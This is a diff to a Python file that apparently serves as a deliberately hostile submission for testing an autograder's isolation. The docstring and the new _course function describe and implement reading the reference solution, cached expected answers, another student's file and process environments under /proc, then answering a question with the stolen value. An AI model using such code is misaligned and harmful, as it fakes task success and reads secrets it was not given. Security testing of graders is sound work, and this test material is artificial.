@@ -1,8 +1,8 @@
 """Hostile: read the reference solution, the specs, the cached expected answers, the environment and
 other students' files, and answer with what it finds.
 
-Attack: open /work/main/solutions/genmodels.py, problems/genmodels/*.yaml, the reference cache
-/work/main/.grade-cache/*.json, submissions/genmodels/perfect.py (another "student"), list /tmp and
+Attack: find the course (/work/main, or the grader's PWD), open its solutions/genmodels.py,
+problems/genmodels/2d.yaml, the reference cache .grade-cache/*.json, submissions/genmodels/perfect.py (another "student"), list /tmp and
 /root, read os.environ, /proc/<parent>/environ and /proc/1/environ. q2d answers with the expected
 value taken from the cache (or computed by running the stolen reference); q3a reports what was
 readable.
@@ -27,8 +27,27 @@ q2a = -math.log(2)
 q4c_alpha1 = 0.9
 q4c_alpha2 = 0.8
 
-COURSE = "/work/main"
 report = []
+
+
+def _course():
+    """The course: /work/main here, or wherever the grader was started (its PWD)."""
+    candidates = ["/work/main"]
+    try:
+        with open(f"/proc/{os.getppid()}/environ", "rb") as f:
+            for item in f.read().split(b"\0"):
+                if item.startswith(b"PWD="):
+                    candidates.insert(0, item[4:].decode())
+    except OSError:
+        pass
+    for candidate in candidates:
+        if os.path.exists(os.path.join(candidate, "solutions", "genmodels.py")):
+            return candidate
+    return "/work/main"
+
+
+COURSE = _course()
+report.append(f"COURSE={COURSE}")
 
 
 def _read(path, limit=200):
